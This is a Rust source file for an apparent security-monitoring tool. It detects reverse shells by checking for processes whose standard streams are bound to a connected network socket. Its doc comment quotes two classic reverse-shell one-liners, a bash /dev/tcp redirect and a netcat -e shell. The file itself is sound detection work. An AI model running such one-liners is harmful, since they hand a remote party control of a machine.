//! Reverse Shell: a process starts with a standard stream bound to a connected inet socket.
//!
//! stdin on a socket is the classic shape (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`);
//! a process whose stdout or stderr is the socket while stdin is not is reported too, with the
//! keys describing that descriptor. Children that inherit the very same socket from their
//! parent (every command typed into the shell) are the same session: the shell was reported,
//! and the commands are Possible Remote Command Execution's job.

use super::{connected_stdio_socket, fd_name, ip_string, with_image};
use shrike_core::event::{ExecEvent, SocketInfo};
use shrike_core::finding::Indicator;
use shrike_core::{Detection, DetectionContext, Detector, FindingType};

/// See the module documentation.
#[derive(Debug, Default, Clone)]
pub struct ReverseShellDetector;

fn parent_has_same_socket(
    exec: &ExecEvent,
    fd: u8,
    socket: &SocketInfo,
    ctx: &DetectionContext<'_>,
) -> bool {
    ctx.ancestor_execs(exec.pid)
        .next()
        .and_then(|parent| parent.stdio[usize::from(fd)].inet_socket())
        .is_some_and(|s| s == socket)
}

impl Detector for ReverseShellDetector {
    fn name(&self) -> &'static str {
        "reverse-shell"
    }

    fn finding_types(&self) -> &'static [FindingType] {
        &[FindingType::ReverseShell]
    }

    fn on_exec(&self, exec: &ExecEvent, ctx: &DetectionContext<'_>) -> Option<Detection> {
        let (fd, socket) = connected_stdio_socket(exec)?;
        if parent_has_same_socket(exec, fd, socket, ctx) {
            return None;
        }
        let remote = ip_string(socket.remote_ip);
        let summary = format!(
            "{} started with {} connected to {} {}:{}",
            exec.exe.path,
            fd_name(fd),
            socket.protocol.as_str(),
            remote,
            socket.remote_port
        );
        let mut detection = Detection::new(FindingType::ReverseShell, summary)
            .with_property("Reverse_Shell_Stdin_Redirection_Dst_Ip", remote.clone())
            .with_property(
                "Reverse_Shell_Stdin_Redirection_Dst_Port",
                socket.remote_port,
            )
            .with_property(
                "Reverse_Shell_Stdin_Redirection_Src_Ip",
                ip_string(socket.local_ip),
            )
            .with_property(
                "Reverse_Shell_Stdin_Redirection_Src_Port",
                socket.local_port,
            )
            .with_property("Reverse_Shell_Redirected_Fd", fd_name(fd))
            .with_property("Reverse_Shell_Protocol", socket.protocol.as_str());
        detection = with_image(detection, exec);
        detection.indicator = Some(Indicator {
            ip_addresses: vec![remote],
            ..Indicator::default()
        });
        Some(detection)
    }
}
